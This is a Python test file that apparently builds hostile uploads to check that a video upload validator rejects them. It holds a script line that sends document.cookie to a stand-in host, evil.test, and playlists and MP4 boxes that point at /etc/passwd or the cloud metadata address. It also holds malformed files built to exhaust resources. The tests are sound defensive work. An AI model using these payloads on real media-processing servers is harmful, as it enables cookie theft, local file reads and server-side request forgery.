import struct

from tests.media.hostile import (
    BROKEN,
    EMPTY,
    FILM_TOO_LARGE,
    ODDLY_TURNED,
    TOO_MUCH,
    UNKNOWN_CODEC,
    case,
    encoded,
    film,
    song,
)

FEW_FRAMES = "Your performance has under 10 frames a second. Film it again."
SCRIPT = b"<html><script>fetch('//evil.test/' + document.cookie)</script></html>\n"


def box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def patched(name: bytes, offset: int, value: bytes, *, last: bool = False) -> bytes:
    """The film with bytes changed, counted from the content of its first (or last) box of this name."""
    data = bytearray(film())
    at = (data.rindex(name) if last else data.index(name)) + 4 + offset
    data[at : at + len(value)] = value
    return bytes(data)


@case("driver_video", EMPTY)
def nothing_at_all() -> bytes:
    return b""


@case("driver_video")
def text() -> bytes:
    return b"This is not a video.\n" * 200


@case("driver_video")
def a_page_with_a_script() -> bytes:
    return SCRIPT * 100


@case("driver_video")
def a_page_behind_a_films_first_box() -> bytes:
    return box(b"ftyp", b"isom\0\0\2\0isomiso2") + SCRIPT * 100


@case("driver_video")
def a_program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0" + bytes(4000)


@case("driver_video")
def an_archive() -> bytes:
    return b"PK\x03\x04\x14\0\0\0\x08\0" + bytes(2000) + b"PK\x05\x06" + bytes(18)


@case("driver_video")
def a_document() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >>\nendobj\n%%EOF\n"


@case("driver_video")
def a_playlist_of_our_files() -> bytes:
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"


@case("driver_video")
def a_playlist_of_an_inner_address() -> bytes:
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://169.254.169.254/latest/\n#EXT-X-ENDLIST\n"


@case("driver_video")
def a_playlist_that_puts_files_together() -> bytes:
    return b"#EXTM3U\n#EXTINF:1,\nconcat:http://127.0.0.1/?|subfile,,start,0,end,64,,:///etc/passwd\n#EXT-X-ENDLIST\n"


@case("driver_video")
def a_list_of_our_files() -> bytes:
    return b"ffconcat version 1.0\nfile /etc/passwd\n"


@case("driver_video")
def a_manifest_of_an_inner_address() -> bytes:
    return (
        b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>'
        b"<Representation><BaseURL>http://127.0.0.1:8100/</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


@case("driver_video")
def a_session_description() -> bytes:
    return b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"


@case("driver_video")
def a_file_of_metadata() -> bytes:
    return b";FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=999999999\n"


@case("driver_video")
def a_kind_that_is_not_taken() -> bytes:
    return encoded(".avi", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1", "-c:v", "mpeg4")


@case("driver_video")
def a_broadcast() -> bytes:
    return encoded(
        ".ts", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1", "-c:v", "libx264", "-preset", "ultrafast"
    )


@case("driver_video")
def a_moving_gif() -> bytes:
    return encoded(".gif", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1:r=5")


@case(
    "driver_video", "Your performance has no moving picture. Choose an MP4, MOV or WebM video.", "wrong_kind"
)
def a_song_by_the_name_of_a_film() -> bytes:
    return song()


@case("driver_video")
def a_film_without_its_index() -> bytes:
    return film()[: len(film()) * 2 // 3]


@case("driver_video", BROKEN)
def a_film_that_was_cut_off() -> bytes:
    whole = encoded(".mp4", "-f", "lavfi", "-i", "testsrc=s=360x480:d=3", *["-c:v", "libx264", "-preset", "ultrafast"],
                    "-movflags", "+faststart")  # fmt: skip
    return whole[: len(whole) * 2 // 3]


@case("driver_video", BROKEN)
def noise_under_a_good_index() -> bytes:
    data = bytearray(film())
    start, end = data.index(b"mdat") + 4, data.index(b"moov") - 4
    data[start:end] = bytes(byte * 7 % 256 for byte in range(end - start))
    return bytes(data)


@case("driver_video")
def an_index_that_says_it_has_four_gigabytes() -> bytes:
    data = bytearray(film())
    at = data.index(b"moov") - 4
    data[at : at + 4] = b"\xff\xff\xff\xf0"
    return bytes(data[: at + 60])


@case("driver_video")
def boxes_in_boxes_in_boxes() -> bytes:
    nested = b""
    for _ in range(20_000):
        nested = struct.pack(">I", 8 + len(nested)) + b"moov" + nested if len(nested) < 150_000 else nested
    return box(b"ftyp", b"isom\0\0\2\0isomiso2") + nested


@case("driver_video", TOO_MUCH)
def four_billion_times() -> bytes:
    return patched(b"stts", 4, b"\xff\xff\xff\xff")


@case("driver_video")
def four_billion_sizes() -> bytes:
    return patched(b"stsz", 8, b"\xff\xff\xff\xff")


@case("driver_video", BROKEN)
def frames_of_two_gigabytes() -> bytes:
    return patched(b"stsz", 4, b"\x7f\xff\xff\xff")


@case("driver_video", BROKEN)
def frames_beyond_the_end() -> bytes:
    return patched(b"stco", 8, b"\x7f\xff\xff\x00")


@case("driver_video", BROKEN)
def a_film_of_its_own_index() -> bytes:
    return patched(b"stco", 8, struct.pack(">I", film().index(b"moov")))


@case("driver_video", FILM_TOO_LARGE)
def a_picture_of_33_megapixels() -> bytes:
    return encoded(
        ".mp4", "-f", "lavfi", "-i", "color=s=8192x4096:d=0.1:r=10", *["-c:v", "mjpeg", "-q:v", "31"]
    )


@case("driver_video", "Your performance is 32 by 32 px. Film it at 340 px a side or more.", "too_small")
def a_film_as_small_as_an_icon() -> bytes:
    return film(size=(32, 32))


@case("driver_video", "Your performance is 340 by 4000 px. Film it at 4K or less.", "too_wide")
def a_film_like_a_string() -> bytes:
    return film(size=(340, 4000), frames=10, sound=None)


@case("driver_video", FEW_FRAMES, "too_few_frames")
def one_frame() -> bytes:
    return film(frames=1)


@case("driver_video", BROKEN)
def no_frame() -> bytes:
    """An index of fragments, and no fragment."""
    whole = encoded(".mp4", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1", *["-c:v", "libx264", "-preset", "ultrafast"],
                    "-movflags", "+empty_moov+frag_keyframe")  # fmt: skip
    return whole[: whole.index(b"moof") - 4]


@case("driver_video", "Your performance has over 240 frames a second. Export it at 30.", "too_many_frames")
def a_million_frames_a_second() -> bytes:
    return patched(b"mdhd", 12, struct.pack(">I", 1_500_000_000))


@case("driver_video", FEW_FRAMES, "too_few_frames")
def a_frame_an_hour() -> bytes:
    return patched(b"mdhd", 12, struct.pack(">I", 1))


@case("driver_video", FEW_FRAMES, "too_few_frames")
def no_clock() -> bytes:
    return patched(b"mdhd", 12, bytes(4))


@case("driver_video", ODDLY_TURNED)
def turned_by_37_degrees() -> bytes:
    cos, sin = round(0.7986 * 65536), round(0.6018 * 65536)
    matrix = struct.pack(">9i", cos, sin, 0, -sin, cos, 0, 0, 0, 0x40000000)
    return patched(b"tkhd", 40, matrix)


@case("driver_video", FEW_FRAMES, "too_few_frames")
def sixty_frames_at_once() -> bytes:
    return patched(b"stts", 8, struct.pack(">II", 30, 0))


@case("driver_video", FEW_FRAMES, "too_few_frames")
def times_that_run_backwards() -> bytes:
    return patched(b"stts", 8, struct.pack(">II", 30, 0x80000001))


@case("driver_video", BROKEN)
def an_edit_list_that_hides_everything() -> bytes:
    return patched(b"elst", 12, struct.pack(">i", 0x7FFFFFF0))


@case("driver_video", BROKEN)
def frames_that_stand_in_another_file() -> bytes:
    """The table of places (`dref`) names a file of ours instead of this one; the frames are said to lie beyond."""
    place = b"file:///etc/passwd\0"
    table = box(b"dref", b"\0\0\0\0\0\0\0\x01" + box(b"url ", b"\0\0\0\0" + place))
    return _with_places(table)


@case("driver_video", BROKEN)
def frames_that_stand_at_an_inner_address() -> bytes:
    table = box(b"dref", b"\0\0\0\0\0\0\0\x01" + box(b"url ", b"\0\0\0\0http://169.254.169.254/\0"))
    return _with_places(table)


def _with_places(table: bytes) -> bytes:
    """The film's table of places replaced by one no longer than the free room that its frames give up."""
    data = film()
    at = data.index(b"dref") - 4
    # What the new table has more, every box round it has more too.
    grown = len(table) - struct.unpack(">I", data[at : at + 4])[0]
    changed = bytearray(data[:at] + table + data[at + struct.unpack(">I", data[at : at + 4])[0] :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        head = changed.index(name) - 4
        changed[head : head + 4] = struct.pack(">I", struct.unpack(">I", changed[head : head + 4])[0] + grown)
    place = changed.index(b"stco") + 4 + 8
    changed[place : place + 4] = b"\x7f\xff\xff\x00"
    return bytes(changed)


@case("driver_video", UNKNOWN_CODEC)
def a_codec_of_nobody() -> bytes:
    return film().replace(b"avc1", b"evil")


@case("driver_video", UNKNOWN_CODEC)
def a_codec_that_is_not_taken() -> bytes:
    return encoded(".mkv", "-f", "lavfi", "-i", "testsrc=s=360x480:d=0.5", "-c:v", "ffv1")


@case("driver_video", "Your performance has 64 channels of sound. Use stereo.", "too_many_channels")
def sixty_four_channels() -> bytes:
    sound = "aevalsrc=" + "|".join(["0"] * 64) + ":d=1.2:s=8000"
    inputs = ("-f", "lavfi", "-i", "testsrc=s=360x480:d=1.2", "-f", "lavfi", "-i", sound)
    return encoded(".mkv", *inputs, *["-c:v", "libx264", "-preset", "ultrafast", "-c:a", "pcm_s16le"])


@case("driver_video", "Your performance says that it lasts over 2 hours. Cut it to the section.", "too_long")
def a_recording_without_end() -> bytes:
    return film(".webm", times=(0, 0.1, 8000))


@case("driver_video", BROKEN)
def a_recording_cut_in_its_first_block() -> bytes:
    return film(".webm")[: film(".webm").index(b"\x1f\x43\xb6\x75") + 40]


@case("driver_video")
def a_recording_of_unknown_sizes() -> bytes:
    return b"\x1a\x45\xdf\xa3" + b"\x01" + b"\xff" * 7 + b"\x18\x53\x80\x67" * 4000
